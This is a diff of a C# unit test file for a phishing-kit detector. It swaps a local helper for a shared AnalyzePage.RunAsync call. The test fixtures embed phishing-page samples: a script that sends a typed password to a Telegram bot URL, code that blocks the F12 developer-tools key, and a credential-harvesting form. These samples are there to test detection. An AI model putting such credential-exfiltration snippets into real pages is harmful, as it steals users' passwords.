@@ -1,12 +1,9 @@
-using Vigie.Enrichment.Pages;
+using Vigie.Enrichment.Tests.Support;
 
 namespace Vigie.Enrichment.Tests.Pages;
 
 public sealed class KitFingerprintReaderTests
 {
-    private static Task<PageAnalysis> AnalyzeAsync(string html) =>
-        PageAnalyzer.AnalyzeAsync(html, new Uri("https://suspect.example.com/"), PageContext.Empty, TimeSpan.FromSeconds(30), TimeProvider.System, CancellationToken.None);
-
     [Fact]
     public async Task AnalyzeAsync_PasswordSentToTelegramBot_Exfiltration()
     {
@@ -14,7 +11,7 @@ public sealed class KitFingerprintReaderTests
             <input type=password id=p><script>function send(){fetch('https://api.telegram.org/bot123:abc/sendMessage?chat_id=9&text='+p.value)}</script>
             """;
 
-        var page = await AnalyzeAsync(html);
+        var page = await AnalyzePage.RunAsync(html);
 
         Assert.Equal("api.telegram.org", page.Kit.Exfiltration);
     }
@@ -27,7 +24,7 @@ public sealed class KitFingerprintReaderTests
             document.onkeydown = function(e) { if (e.keyCode == 123) return false; };</script></body>
             """;
 
-        var page = await AnalyzeAsync(html);
+        var page = await AnalyzePage.RunAsync(html);
 
         Assert.True(page.Kit.Obfuscated);
         Assert.True(page.Kit.AntiAnalysis);
@@ -39,7 +36,7 @@ public sealed class KitFingerprintReaderTests
     [InlineData("/account/session", null)]
     public async Task AnalyzeAsync_SecretFormAction_KitScriptByName(string action, string? script)
     {
-        var page = await AnalyzeAsync($"<form action='{action}' method=post><input type=email name=e><input type=password name=p></form>");
+        var page = await AnalyzePage.RunAsync($"<form action='{action}' method=post><input type=email name=e><input type=password name=p></form>");
 
         Assert.Equal(script, page.Kit.KitScript);
     }
